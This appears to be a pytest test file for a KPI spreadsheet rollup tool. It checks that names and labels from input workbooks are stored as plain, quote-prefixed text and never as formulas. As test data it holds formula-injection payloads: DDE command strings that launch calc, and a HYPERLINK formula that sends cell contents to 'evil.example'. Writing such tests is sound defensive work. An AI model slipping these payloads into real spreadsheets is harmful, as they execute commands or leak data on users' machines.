"""Text from inputs written back as text (kpi_xl.io.text): what looks like a formula, long text cut, cells no
program evaluates; and the same rules where the rollup writes names, labels and notes into its summary."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from openpyxl import Workbook
from rollup_helpers import GOLDEN_ROWS, seed_workbook

from kpi_xl.io.preflight import DEFAULT_LIMITS
from kpi_xl.io.text import looks_like_formula, put_text, safe_text, text_cut_message
from kpi_xl.rollup import rollup
from kpi_xl.rollup.book import excel_text
from kpi_xl.roster import Employee, Roster

FORMULA_LIKE = [
    "=1+1",
    "+6281234567",
    "-Budi",
    "@Budi",
    '=HYPERLINK("http://example.com","klik")',
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\t=1+1",
    " =SUM(A1)",
]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_looks_like_formula(text: str) -> None:
    assert looks_like_formula(text)


@pytest.mark.parametrize("text", ["Budi", "Artikel =HYPERLINK(x)", "", "1+1", "e=mc2", "王小明"])
def test_does_not_look_like_formula(text: str) -> None:
    assert not looks_like_formula(text)


SAFE = [
    (None, 10, ""),
    ("=SUM(A1:A9)", 1000, "=SUM(A1:A9)"),
    ("a\x00b\x1fc", 1000, "a\ufffdb\ufffdc"),
    ("tab\tnew\nline", 1000, "tab\tnew\nline"),
    ("bytes-\udcff-name.xlsx", 1000, "bytes-\ufffd-name.xlsx"),
    ("王小明 😀", 1000, "王小明 😀"),
    ("x" * 11, 10, "xxxxxxxxxx… [cut: 11 characters, first 10 kept]"),
    ("x" * 10, 10, "x" * 10),
    (1001.0, 1000, "1001.0"),
]


@pytest.mark.parametrize("value, limit, expected", SAFE, ids=[repr(v)[:20] for v, _, _ in SAFE])
def test_safe_text(value: object, limit: int, expected: str) -> None:
    assert safe_text(value, limit) == expected


def test_text_cut_message() -> None:
    assert text_cut_message("y" * 10_000, "indicator in B12") == (
        "indicator in B12 is 10,000 characters long; the summary keeps the first 1,000 (the scorecard "
        "itself is unchanged): shorten it in the scorecard"
    )
    assert text_cut_message("short", "indicator") is None


TEXTS = FORMULA_LIKE + ['Artikel =HYPERLINK("http://x")', "王小明", "محمد", "😀", "x" * 5000]


def test_put_text_writes_string_cells_that_no_program_evaluates(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    wb = Workbook()
    ws = wb.active
    for row, text in enumerate(TEXTS, start=1):
        put_text(ws.cell(row, 1), text)
        ws.cell(row, 2).value = text  # what a plain assignment does, to show the test can fail
    path = tmp_path / "summary.xlsx"
    wb.save(path)

    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    back = load_workbook(path)["Sheet"]
    assert back.cell(1, 2).data_type == "f"  # openpyxl stores "=1+1" as a formula unless told
    for row, text in enumerate(TEXTS, start=1):
        cell = back.cell(row, 1)
        assert cell.data_type == "s" and cell.value == safe_text(text), (row, cell.value)
        assert cell.quotePrefix == looks_like_formula(text)
        assert f'<c r="A{row}"' in sheet
    assert sheet.count("<f>") == sum(t.startswith("=") for t in TEXTS)  # only column B's plain assignments

    import python_calamine as calamine

    grid = calamine.CalamineWorkbook.from_path(str(path)).get_sheet_by_name("Sheet").to_python()
    assert [row[0] for row in grid] == [safe_text(t) for t in TEXTS]


def test_put_text_cells_stay_text_in_libreoffice(tmp_path: Path, soffice: str) -> None:
    from engines import recalculate_libreoffice as recalculate

    wb = Workbook()
    for row, text in enumerate(TEXTS, start=1):
        put_text(wb.active.cell(row, 1), text)
    wb.active.cell(1, 2).value = "=1+1"  # a real formula beside them: LibreOffice computes that one
    wb.save(tmp_path / "texts.xlsx")
    out = recalculate([tmp_path / "texts.xlsx"], tmp_path / "out")[0]

    import python_calamine as calamine

    grid = calamine.CalamineWorkbook.from_path(str(out)).get_sheet_by_name("Sheet").to_python()
    assert grid[0][1] == 2
    assert [row[0] for row in grid] == [safe_text(t) for t in TEXTS]


def test_safe_text_keeps_openpyxl_from_refusing_the_cell() -> None:
    from openpyxl.utils.exceptions import IllegalCharacterError

    ws = Workbook().active
    with pytest.raises(IllegalCharacterError):
        ws.cell(1, 1).value = "bad\x00"
    put_text(ws.cell(1, 1), "bad\x00")
    buffer = io.BytesIO()
    ws.parent.save(buffer)
    assert ws.cell(1, 1).value == "bad\ufffd"


def test_text_from_inputs_is_written_as_text_never_a_formula(tmp_path):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = [(evil, "+cmd|' /C calc'!A0", 50, 10, 10), (None, "@SUM(1+1)", 50, 10, 10)]
    seed_workbook(tmp_path / "evil.xlsx", rows=rows, who={"Nama": evil, "NIK": "-1+1"})
    wb = openpyxl.load_workbook(tmp_path / "evil.xlsx")  # openpyxl wrote the name as a formula: make it text
    for row in wb.active.iter_rows():
        for cell in row:
            if cell.value == evil:
                cell.data_type = "s"
    wb.save(tmp_path / "evil.xlsx")
    out = tmp_path / "summary.xlsx"
    rollup(tmp_path / "evil.xlsx", out, roster=Roster([_employee("-1+1", evil, "=1+1", potential="high")], []))
    wb = openpyxl.load_workbook(out)
    name_cell = wb["Summary"]["B2"]
    assert name_cell.value == evil and name_cell.data_type == "s"
    assert wb["Summary"]["C2"].value == "=1+1" and wb["Summary"]["C2"].data_type == "s"
    assert wb["Details"]["E2"].value == evil and wb["Details"]["E2"].data_type == "s"
    assert wb["Levels"]["C1"].value == "=1+1" and wb["Levels"]["C1"].data_type == "s"
    assert wb["9-Box"]["C4"].value == f"(1)\n{evil} (-1+1)"  # level 3, high potential
    formulas = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def _employee(emp_id, name, dept, salary=None, potential=None, supervisor="Andi", role="digital-marketing-specialist"):
    return Employee(emp_id, name, dept, supervisor, role, "2025", salary, potential, 2)


@pytest.mark.parametrize("text, written", [
    ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),  # a full-width "=": a formula in Excel's eyes (kpi_xl.io.text)
    ("\t=1+1", "'\t=1+1"), ("-5", "'-5"), (" 42", "' 42"), ("'x", "''x"), ("Budi", "Budi"), ("e=mc2", "e=mc2"),
])
def test_excel_text_uses_the_safety_rules(text, written):
    assert excel_text(text) == written


def test_long_text_is_cut_with_a_warning_and_written_as_cut(tmp_path):
    rows = [list(r) for r in GOLDEN_ROWS]
    long = "Artikel-" * 625  # 5,000 characters
    rows[2][1] = long
    seed_workbook(tmp_path / "a.xlsx", rows=[tuple(r) for r in rows], who={"Nama": "B" * 1200, "NIK": "E1"})
    out = tmp_path / "summary.xlsx"
    result = rollup(tmp_path / "a.xlsx", out)
    assert issues_of(result) == [
        ("a.xlsx", "KPI", "B1", "warning", "employee name is 1,200 characters long; the summary keeps the first "
                                           "1,000 (the scorecard itself is unchanged): shorten it in the scorecard"),
        ("a.xlsx", "KPI", "B7", "warning", "indicator is 5,000 characters long; the summary keeps the first 1,000 "
                                           "(the scorecard itself is unchanged): shorten it in the scorecard"),
    ]
    wb = openpyxl.load_workbook(out)
    assert wb["Details"]["F4"].value == safe_text(long) == long[:1000] + "… [cut: 5,000 characters, first 1,000 kept]"
    assert wb["Summary"]["B2"].value == safe_text("B" * 1200)
    # The limit is the rollup's `limits.max_text`.
    small = rollup(tmp_path / "a.xlsx", None, limits=replace(DEFAULT_LIMITS, max_text=2000))
    assert [i for i in issues_of(small) if "characters long" in i[4]] == [
        ("a.xlsx", "KPI", "B7", "warning", "indicator is 5,000 characters long; the summary keeps the first 2,000 "
                                           "(the scorecard itself is unchanged): shorten it in the scorecard")]


def test_formula_like_text_is_quote_prefixed_text_in_every_sheet(tmp_path):
    evil = '=HYPERLINK("http://example.com","klik")'
    rows = [(evil, "+62 811 1234", 50, 10, 10), (None, "@SUM(1+1)", 50, 10, 10)]
    seed_workbook(tmp_path / "evil.xlsx", rows=rows, who={"NIK": "-1+1"})
    wb = openpyxl.load_workbook(tmp_path / "evil.xlsx")
    for row in wb.active.iter_rows():
        for cell in row:
            if cell.value == evil:
                cell.data_type = "s"  # openpyxl wrote it as a formula: make it the text someone typed
    wb.save(tmp_path / "evil.xlsx")
    out = tmp_path / "summary.xlsx"
    rollup(tmp_path / "evil.xlsx", out)
    wb = openpyxl.load_workbook(out)
    seen = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.lstrip().startswith(("=", "+", "-", "@")):
                    seen[(ws.title, cell.value)] = (cell.data_type, cell.quotePrefix)
    assert seen[("Details", evil)] == ("s", True)
    assert seen[("Details", "+62 811 1234")] == ("s", True)
    assert seen[("Details", "@SUM(1+1)")] == ("s", True)
    assert seen[("Summary", "-1+1")] == ("s", True)
    assert seen[("By KRA", evil)] == ("s", True)
    assert all(v == ("s", True) for v in seen.values()), seen
    plain = wb["Details"]["A2"]
    assert plain.value == "-1+1" and plain.quotePrefix
    assert not wb["Details"]["G1"].quotePrefix  # only what looks like a formula


def issues_of(result, severity=None):
    return [(Path(i.file).name, i.sheet, i.cell, i.severity, i.message) for i in result.issues
            if severity is None or i.severity == severity]
